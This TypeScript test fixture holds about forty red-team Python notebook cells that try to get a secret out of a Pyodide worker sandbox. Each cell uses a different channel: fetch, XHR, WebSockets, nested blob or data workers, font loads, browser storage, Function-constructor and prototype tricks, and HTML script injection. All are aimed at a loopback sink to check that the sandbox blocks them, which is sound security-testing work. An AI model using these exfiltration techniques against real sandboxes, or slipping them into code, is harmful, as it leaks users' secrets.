/**
 * Red-team payloads: each is one notebook cell that tries to get SECRET (read from the owner's
 * table) out of the sandbox to the sink on 127.0.0.1, or into storage the app's origin can read.
 *
 * A prelude cell defines SINK (http://127.0.0.1:port), WS (ws://…), APP (the app's origin) and
 * SECRET. Each payload tags what it sends with `id=<payload id>` so that, in the unprotected
 * control, the hit can be traced to the payload that made it.
 *
 * `control` says whether the payload gets through when the same worker runs unprotected (a plain
 * same-origin worker, no CSP, real globals as `js`). Where it is false, the API does not exist in a
 * dedicated worker or cannot reach a plain loopback server at all; `why` says which. The suite
 * requires every `control: true` payload to hit in the control, so none can pass vacuously.
 */
export interface Payload {
  id: string;
  title: string;
  code: string;
  control: boolean;
  why?: string;
  /**
   * What counts as this payload's hit in the control when it cannot carry its id: 'udp' for any
   * datagram (QUIC), 'ws-root' for a WebSocket handshake to `/` (Emscripten's socket layer; shared by the
   * socket payloads, so it shows the mechanism leaks rather than which of them did).
   */
  evidence?: 'udp' | 'ws-root';
  /**
   * Blocked in the sandbox in a way that kills the Python runtime (Pyodide's fatal-error path), so it
   * runs in a notebook of its own there; the run fails, nothing leaks.
   */
  isolated?: true;
}

const q = (id: string) => `f"{SINK}/${id}?id=${id}&s={SECRET}"`;

export const PAYLOADS: Payload[] = [
  { id: 'fetch', title: 'fetch()', control: true, code: `import js\nawait js.fetch(${q('fetch')})` },
  {
    id: 'fetch-post',
    title: 'fetch() POST body, no-cors',
    control: true,
    code: `import js\nfrom pyodide.ffi import to_js\nawait js.fetch(${q('fetch-post')}, to_js({"method": "POST", "body": SECRET, "mode": "no-cors"}, dict_converter=js.Object.fromEntries))`,
  },
  {
    id: 'fetch-keepalive',
    title: 'fetch() keepalive, fire and forget',
    control: true,
    code: `import js, asyncio\nfrom pyodide.ffi import to_js\njs.fetch(${q('fetch-keepalive')}, to_js({"keepalive": True}, dict_converter=js.Object.fromEntries))\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'request-object',
    title: 'fetch(new Request())',
    control: true,
    code: `import js\nawait js.fetch(js.Request.new(${q('request-object')}))`,
  },
  {
    id: 'xhr-async',
    title: 'XMLHttpRequest, async',
    control: true,
    code: `import js, asyncio\nx = js.XMLHttpRequest.new()\nx.open("GET", ${q('xhr-async')})\nx.send()\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'xhr-sync',
    title: 'XMLHttpRequest, sync',
    control: true,
    code: `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", ${q('xhr-sync')}, False)\nx.send()`,
  },
  {
    id: 'websocket',
    title: 'WebSocket',
    control: true,
    code: `import js, asyncio\nws = js.WebSocket.new(f"{WS}/websocket?id=websocket&s={SECRET}")\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'websocketstream',
    title: 'WebSocketStream',
    control: true,
    code: `import js, asyncio\nws = js.WebSocketStream.new(f"{WS}/websocketstream?id=websocketstream&s={SECRET}")\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'eventsource',
    title: 'EventSource',
    control: true,
    code: `import js, asyncio\nes = js.EventSource.new(${q('eventsource')})\nawait asyncio.sleep(0.3)\nes.close()`,
  },
  {
    id: 'webtransport',
    title: 'WebTransport (QUIC datagrams to the sink port)',
    control: true,
    evidence: 'udp',
    code: `import js, asyncio\nwt = js.WebTransport.new(f"https://127.0.0.1:{SINK.rsplit(':',1)[1]}/webtransport?id=webtransport&s={SECRET}")\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'importscripts',
    title: 'importScripts()',
    control: true,
    code: `import js\njs.importScripts(${q('importscripts')})`,
  },
  {
    id: 'dynamic-import',
    title: 'dynamic import() through run_js',
    control: true,
    code: `from pyodide.code import run_js\nawait run_js(f"import('{SINK}/dynamic-import.js?id=dynamic-import&s={SECRET}')")`,
  },
  {
    id: 'worker-blob',
    title: 'nested Worker from blob:',
    control: true,
    code: `import js, asyncio\nsrc = f"fetch('{SINK}/worker-blob?id=worker-blob&s={SECRET}')"\nb = js.Blob.new([src], {"type": "text/javascript"})\nw = js.Worker.new(js.URL.createObjectURL(b))\nawait asyncio.sleep(0.5)`,
  },
  {
    id: 'worker-data',
    title: 'nested Worker from data:',
    control: true,
    code: `import js, asyncio\nfrom urllib.parse import quote\nsrc = f"fetch('{SINK}/worker-data?id=worker-data&s={SECRET}')"\nw = js.Worker.new("data:text/javascript," + quote(src))\nawait asyncio.sleep(0.5)`,
  },
  {
    id: 'worker-url',
    title: 'nested Worker from a same-origin URL (takes its CSP from headers)',
    control: true,
    code: `import js, asyncio\nw = js.Worker.new(f"{APP}/exfil-worker.js?s={SECRET}")\nawait asyncio.sleep(0.5)`,
  },
  {
    id: 'module-worker-blob',
    title: 'nested module Worker from blob:',
    control: true,
    code: `import js, asyncio\nfrom pyodide.ffi import to_js\nsrc = f"await fetch('{SINK}/module-worker-blob?id=module-worker-blob&s={SECRET}')"\nb = js.Blob.new(to_js([src]), to_js({"type": "text/javascript"}, dict_converter=js.Object.fromEntries))\nw = js.Worker.new(js.URL.createObjectURL(b), to_js({"type": "module"}, dict_converter=js.Object.fromEntries))\nawait asyncio.sleep(0.5)`,
  },
  {
    id: 'sharedworker',
    title: 'SharedWorker',
    control: false,
    why: 'SharedWorker is not exposed in dedicated workers',
    code: `import js\njs.SharedWorker.new(f"{APP}/exfil-worker.js?s={SECRET}")`,
  },
  {
    id: 'fontface',
    title: 'FontFace.load() of a remote font',
    control: true,
    code: `import js\nf = js.FontFace.new("x", f"url({SINK}/fontface?id=fontface&s={SECRET})")\ntry:\n    await f.load()\nexcept Exception:\n    pass`,
  },
  {
    id: 'fonts-add',
    title: 'self.fonts.add + load',
    control: true,
    code: `import js\nf = js.FontFace.new("y", f"url({SINK}/fonts-add?id=fonts-add&s={SECRET})")\njs.fonts.add(f)\ntry:\n    await js.fonts.load("12px y")\n    await f.load()\nexcept Exception:\n    pass`,
  },
  {
    id: 'broadcastchannel',
    title: 'BroadcastChannel to the app',
    control: true,
    code: `import js, asyncio\nbc = js.BroadcastChannel.new("airlock-exfil")\nbc.postMessage(f"id=broadcastchannel&s={SECRET}")\nawait asyncio.sleep(0.2)`,
  },
  {
    id: 'indexeddb',
    title: "IndexedDB (the app's storage)",
    control: true,
    code: `import js, asyncio\nreq = js.indexedDB.open(f"exfil-indexeddb-{SECRET}")\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'cache-api',
    title: 'Cache API',
    control: true,
    code: `import js\nc = await js.caches.open(f"exfil-cache-api-{SECRET}")\nawait c.put(f"{APP}/x", js.Response.new(SECRET))`,
  },
  {
    id: 'opfs',
    title: 'Origin private file system',
    control: true,
    code: `import js\nroot = await js.navigator.storage.getDirectory()\nawait root.getFileHandle(f"exfil-opfs-{SECRET}", create=True)`,
  },
  {
    id: 'web-locks',
    title: 'Web Locks (names are visible to the origin)',
    control: true,
    code: `import js, asyncio\nfrom pyodide.ffi import create_proxy\nfut = asyncio.get_event_loop().create_future()\njs.navigator.locks.request(f"exfil-web-locks-{SECRET}", create_proxy(lambda lock: fut))\nawait asyncio.sleep(0.3)`,
  },
  {
    id: 'service-worker',
    title: 'service worker registration',
    control: false,
    why: 'navigator.serviceWorker is not exposed in dedicated workers',
    code: `import js\nawait js.navigator.serviceWorker.register(f"{APP}/exfil-worker.js?s={SECRET}")`,
  },
  {
    id: 'sendbeacon',
    title: 'navigator.sendBeacon',
    control: false,
    why: 'sendBeacon is window-only',
    code: `import js\njs.navigator.sendBeacon(${q('sendbeacon')}, SECRET)`,
  },
  {
    id: 'pyfetch',
    title: 'pyodide.http.pyfetch',
    control: true,
    code: `from pyodide.http import pyfetch\nawait pyfetch(${q('pyfetch')})`,
  },
  {
    id: 'open-url',
    title: 'pyodide.http.open_url (sync XHR)',
    control: true,
    code: `from pyodide.http import open_url\nopen_url(${q('open-url')})`,
  },
  {
    id: 'pyxhr',
    title: 'pyodide.http.pyxhr',
    control: true,
    code: `from pyodide.http import pyxhr\npyxhr.get(${q('pyxhr')})`,
  },
  {
    id: 'loadpackage',
    title: 'pyodide loadPackage from a URL',
    control: true,
    code: `import pyodide_js\nawait pyodide_js.loadPackage(f"{SINK}/loadpackage/id=loadpackage&s={SECRET}/x-1.0-py3-none-any.whl")`,
  },
  {
    id: 'lazy-file',
    title: 'FS.createLazyFile (sync XHR on read)',
    control: true,
    isolated: true,
    code: `import pyodide_js\npyodide_js.FS.createLazyFile("/tmp", "lazy", ${q('lazy-file')}, True, False)\nwith open("/tmp/lazy", "rb") as f:\n    f.read(16)`,
  },
  {
    id: 'socket',
    title: 'socket.create_connection (Emscripten tunnels it over WebSocket)',
    control: true,
    evidence: 'ws-root',
    code: `import socket\ns = socket.create_connection(("127.0.0.1", int(SINK.rsplit(":",1)[1])), timeout=2)\ns.sendall(f"GET /socket?id=socket&s={SECRET} HTTP/1.0\\r\\n\\r\\n".encode())`,
  },
  {
    id: 'urllib',
    title: 'urllib.request.urlopen',
    control: true,
    evidence: 'ws-root',
    code: `import urllib.request\nurllib.request.urlopen(${q('urllib')}, timeout=2).read()`,
  },
  {
    id: 'http-client',
    title: 'http.client',
    control: true,
    evidence: 'ws-root',
    code: `import http.client\nc = http.client.HTTPConnection("127.0.0.1", int(SINK.rsplit(":",1)[1]), timeout=2)\nc.request("GET", f"/http-client?id=http-client&s={SECRET}")\nc.getresponse()`,
  },
  {
    id: 'asyncio-connection',
    title: 'asyncio.open_connection',
    control: false,
    why: 'Pyodide raises NotImplementedError: no raw sockets in browsers',
    code: `import asyncio\nr, w = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", int(SINK.rsplit(":",1)[1])), 2)\nw.write(f"GET /asyncio?id=asyncio-connection&s={SECRET} HTTP/1.0\\r\\n\\r\\n".encode())`,
  },
  {
    id: 'function-constructor',
    title: 'Function constructor',
    control: true,
    code: `import js\nf = js.Function.new(f"fetch('{SINK}/function-constructor?id=function-constructor&s={SECRET}')")\nf()`,
  },
  {
    id: 'eval',
    title: 'eval through js and run_js',
    control: true,
    code: `from pyodide.code import run_js\nrun_js(f"fetch('{SINK}/eval?id=eval&s={SECRET}')")`,
  },
  {
    id: 'function-via-prototype',
    title: "Function recovered from any function's constructor",
    control: true,
    code: `import pyodide_js\nF = pyodide_js.loadPackage.constructor\nF.new(f"fetch('{SINK}/function-via-prototype?id=function-via-prototype&s={SECRET}')")()`,
  },
  {
    id: 'prototype-recovery',
    title: 'recover the global object from reachable objects and call its fetch',
    control: true,
    code: `import pyodide_js, js
found = []
seen = set()
frontier = [js, pyodide_js, pyodide_js._api, pyodide_js._module, pyodide_js.FS]
for depth in range(2):
    nxt = []
    for o in frontier:
        if id(o) in seen:
            continue
        seen.add(id(o))
        for name in ("self", "globalThis", "window", "global", "jsglobals", "config", "_module", "API"):
            try:
                v = getattr(o, name)
            except Exception:
                continue
            if v is not None:
                nxt.append(v)
        try:
            f = getattr(o, "fetch")
            if f is not None:
                found.append(f)
        except Exception:
            pass
    frontier = nxt
for f in found[:3]:
    try:
        await f(f"{SINK}/prototype-recovery?id=prototype-recovery&s={SECRET}")
    except Exception:
        pass
if not found:
    raise RuntimeError("no global object reachable")`,
  },
  {
    id: 'workerglobalscope-prototype',
    title: 'fetch from WorkerGlobalScope.prototype',
    control: true,
    code: `import js\nproto = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))\nf = js.Reflect.get(proto, "fetch")\nawait js.Reflect.apply(f, js.self, [${q('workerglobalscope-prototype')}])`,
  },
  {
    id: 'wasm-streaming',
    title: 'WebAssembly.compileStreaming(fetch())',
    control: true,
    code: `import js\ntry:\n    await js.WebAssembly.compileStreaming(js.fetch(${q('wasm-streaming')}))\nexcept Exception as e:\n    if "fetch" in str(e) and "not" in str(e): raise`,
  },
  {
    id: 'run-sync',
    title: 'pyodide.ffi.run_sync over fetch',
    control: true,
    code: `import js\nfrom pyodide.ffi import run_sync\nrun_sync(js.fetch(${q('run-sync')}))`,
  },
  {
    id: 'post-to-frame',
    title: 'postMessage to the enclosing frame',
    control: false,
    why: 'reaches the control page, which has no listener that sends anything out; the host-message tests cover forged messages',
    code: `import js\njs.postMessage(f"id=post-to-frame&s={SECRET}")`,
  },
  {
    id: 'location',
    title: 'navigate via location',
    control: false,
    why: 'a worker cannot navigate',
    code: `import js\njs.location.href = ${q('location')}`,
  },
  {
    id: 'html-output',
    title: 'output that tries to be HTML',
    control: false,
    why: 'harmless unless someone renders it as HTML; the page tests check that the app never does',
    code: `import airlock\nprint(f'<img src="{SINK}/html-output?id=html-output&s={SECRET}"><script>fetch("{SINK}/html-script")</script>')\nopen(airlock.OUTPUT_DIR + "/report.html", "w").write(f'<img src="{SINK}/html-output-file?id=html-output&s={SECRET}">')`,
  },
];
